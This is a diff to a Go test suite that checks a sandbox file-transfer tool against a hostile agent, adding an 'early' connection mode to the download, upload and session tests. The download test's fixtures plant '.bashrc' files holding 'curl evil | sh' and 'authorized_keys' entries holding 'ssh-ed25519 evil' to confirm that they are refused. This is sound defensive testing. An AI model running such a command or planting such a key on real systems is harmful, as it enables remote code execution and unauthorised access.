@@ -40,7 +40,7 @@ type hostileBox struct {
 
 // newHostileBox plants the hostile agent with scenario s in box's own
 // TMPDIR, so that no other sandbox (or test) runs it.
-func newHostileBox(t *testing.T, s hostile.Scenario) *hostileBox {
+func newHostileBox(t *testing.T, s hostile.Scenario, early bool) *hostileBox {
 	t.Helper()
 	g := gatewaytest.Start(t, gatewaytest.Options{})
 	c := g.Client(t, openshell.Config{})
@@ -54,8 +54,22 @@ func newHostileBox(t *testing.T, s hostile.Scenario) *hostileBox {
 		victimRoot: filepath.Join(g.Root, "victim"),
 	}
 	h.victim.Name = "victim"
+	if early {
+		// Remembered as a sandbox whose agent has answered: each
+		// connection's first call goes before the hostile hello.
+		h.sb.AgentMemory = agent.NewMemory()
+		h.sb.AgentMemory.Remember("box", true)
+	}
 	h.scenario = hostile.Plant(t, tmp, h.sb.Agents, s)
 	return h
+}
+
+// forDials runs f with connections that wait for the agent's hello, and
+// ("early") with connections whose first call goes before it.
+func forDials(t *testing.T, f func(t *testing.T, early bool)) {
+	for _, early := range []bool{false, true} {
+		t.Run(map[bool]string{false: "hello-first", true: "early"}[early], func(t *testing.T) { f(t, early) })
+	}
 }
 
 // lie makes the next connections answer as s says.
@@ -94,8 +108,10 @@ func wantEntryErr(t *testing.T, err, sentinel error, entry string) {
 // artifacts of a run) from an agent that sends names nobody asked for, a
 // crafted archive, sparse entries, or stalls. Each fails naming the entry,
 // and nothing at or beside the destination changes.
-func TestHostileAgentDownload(t *testing.T) {
-	h := newHostileBox(t, hostile.Scenario{})
+func TestHostileAgentDownload(t *testing.T) { forDials(t, testHostileAgentDownload) }
+
+func testHostileAgentDownload(t *testing.T, early bool) {
+	h := newHostileBox(t, hostile.Scenario{}, early)
 	write(t, h.root, map[string]string{
 		"x/file": "real", "payload/x": "asked for", "payload/.bashrc": "curl evil | sh", "payload/.ssh/authorized_keys": "ssh-ed25519 evil", ".bashrc": "curl evil | sh", ".ssh/authorized_keys": "ssh-ed25519 evil",
 		"rascal-meta/meta.json": "{}", "rascal-meta/.bashrc": "curl evil | sh",
@@ -218,8 +234,10 @@ func noneIn(t *testing.T, out string) {
 
 // TestHostileAgentUpload: an agent that reports a tree other than the one
 // it was sent, or stops reading, fails the upload.
-func TestHostileAgentUpload(t *testing.T) {
-	h := newHostileBox(t, hostile.Scenario{PutLie: true})
+func TestHostileAgentUpload(t *testing.T) { forDials(t, testHostileAgentUpload) }
+
+func testHostileAgentUpload(t *testing.T, early bool) {
+	h := newHostileBox(t, hostile.Scenario{PutLie: true}, early)
 	src := t.TempDir()
 	write(t, src, map[string]string{"a/b": "b", "a/c": "c"})
 	_, err := ferry.Upload(ctx(t), h.sb, []string{filepath.Join(src, "a")}, "dst")
@@ -323,12 +341,14 @@ func randomBytes(seed uint64, n int) []byte {
 // key restores byte for byte afterwards; on a directory store and on S3.
 func TestHostileAgentSession(t *testing.T) {
 	for _, sk := range hostileStores(t) {
-		t.Run(sk.name, func(t *testing.T) { testHostileAgentSession(t, sk) })
+		t.Run(sk.name, func(t *testing.T) {
+			forDials(t, func(t *testing.T, early bool) { testHostileAgentSession(t, sk, early) })
+		})
 	}
 }
 
-func testHostileAgentSession(t *testing.T, sk storeKind) {
-	h := newHostileBox(t, hostile.Scenario{})
+func testHostileAgentSession(t *testing.T, sk storeKind, early bool) {
+	h := newHostileBox(t, hostile.Scenario{}, early)
 	st, b := sk.open(t)
 	// The victim: two small files, one chunk each (under the chunker's
 	// minimum), so their chunk ids are the SHA-256 of their content.
